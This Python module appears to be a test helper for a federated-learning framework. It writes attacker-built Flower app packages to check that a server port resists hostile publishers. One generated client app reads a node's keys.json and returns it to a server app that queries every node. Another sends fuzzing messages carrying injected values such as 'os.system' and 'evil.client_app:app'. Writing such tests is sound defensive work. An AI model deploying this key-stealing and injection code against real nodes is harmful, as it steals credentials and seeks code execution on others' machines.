"""Apps of somebody who reaches a SuperLink's port: their code reads keys, their messages try everything."""

PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "{name}"
version = "0.1.0"
license = "Apache-2.0"
dependencies = ["flwr"]
[tool.hatch.build.targets.wheel]
packages = ["{package}"]
[tool.flwr.app]
publisher = "me"
[tool.flwr.app.components]
serverapp = "{package}.server_app:app"
clientapp = "{package}.client_app:app"
[tool.flwr.app.config]
home = "out.txt"
"""
CLIENT = """\
from pathlib import Path
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp
Path("{mark}").write_text("the shipped code ran")
app = ClientApp()
@app.query("steal")
def steal(message, context):
    keys = (Path(str(context.node_config["fedq-home"])) / "keys.json").read_text()
    return Message(RecordDict({{"got": ConfigRecord({{"keys": keys}})}}), reply_to=message)
"""
STEALING = """\
from pathlib import Path
from flwr.app import Message, RecordDict
from flwr.serverapp import ServerApp
app = ServerApp()
@app.main()
def main(grid, context):
    kind, out = "query.steal", []
    asked = [Message(RecordDict(), dst_node_id=n, message_type=kind, ttl=300.0) for n in grid.get_node_ids()]
    for reply in grid.send_and_receive(asked, timeout=300):
        got = "error" if reply.has_error() else reply.content.config_records["got"]["keys"]
        out.append(str(got)[:60])
    Path(str(context.run_config["home"])).write_text("\\n".join(out))
"""
KINDS = (
    *("train", "train.x", "evaluate", "query", "query.steal", "query.register"),
    *("query.shares", "query.masked", "query.confirm", "query.unmask", "query.reply", "query.mro"),
)
TRYING = """\
from pathlib import Path
from flwr.app import ArrayRecord, ConfigRecord, Message, MetricRecord, RecordDict
from flwr.serverapp import ServerApp
import numpy as np
app = ServerApp()
KINDS = {kinds!r}
WORDS = {{"fedq-home": "/tmp", "home": "/tmp", "app": "evil.client_app:app", "class_path": "os.system"}}
WORDS |= {{"nonce": b"0" * 32, "kind": "register"}}
def numbers(how_many):
    return ArrayRecord([np.zeros(how_many, np.float32)])
def contents():
    yield RecordDict()
    yield RecordDict({{"fedq": ConfigRecord(dict(WORDS))}})
    yield RecordDict({{"a": numbers(3), "m": MetricRecord({{"x": 1}})}})
def plans():
    for kind in KINDS:
        for number in range(3):
            yield kind, number, lambda: list(contents())[number]
    if {large}:
        yield "train", 3, lambda: RecordDict({{"a": numbers({large})}})
@app.main()
def main(grid, context):
    out, nodes = [], list(grid.get_node_ids())
    home = str(context.run_config["home"])
    asked = [
        Message(content(), dst_node_id=n, message_type=kind, ttl=900.0)
        for kind, number, content in plans()
        for n in nodes
    ]
    for r in grid.send_and_receive(asked, timeout=900):
        failed = r.has_error()
        said = f"error {{r.error.reason}}" if failed else f"ANSWER {{dict(r.content)!r}}"
        out.append(f"{{r.metadata.message_type}}: {{said[:300]}}")
    Path(home).write_text("\\n".join(out))
    Path(home + ".done").touch()
"""


def write(folder, mark, server):
    """An app whose shipped client code writes `mark` when it is imported."""
    package = folder.name
    (folder / package).mkdir(parents=True)
    (folder / "pyproject.toml").write_text(PYPROJECT.format(name=package.replace("_", "-"), package=package))
    (folder / package / "__init__.py").write_text("")
    (folder / package / "client_app.py").write_text(CLIENT.format(mark=mark))
    (folder / package / "server_app.py").write_text(server)
    return folder


def stealing(folder, mark):
    """It asks every node for its keys."""
    return write(folder, mark, STEALING)


def trying(folder, mark, large=0):
    """It sends messages of 13 types with three contents each, and one of `large` floats."""
    return write(folder, mark, TRYING.format(kinds=KINDS, large=large))
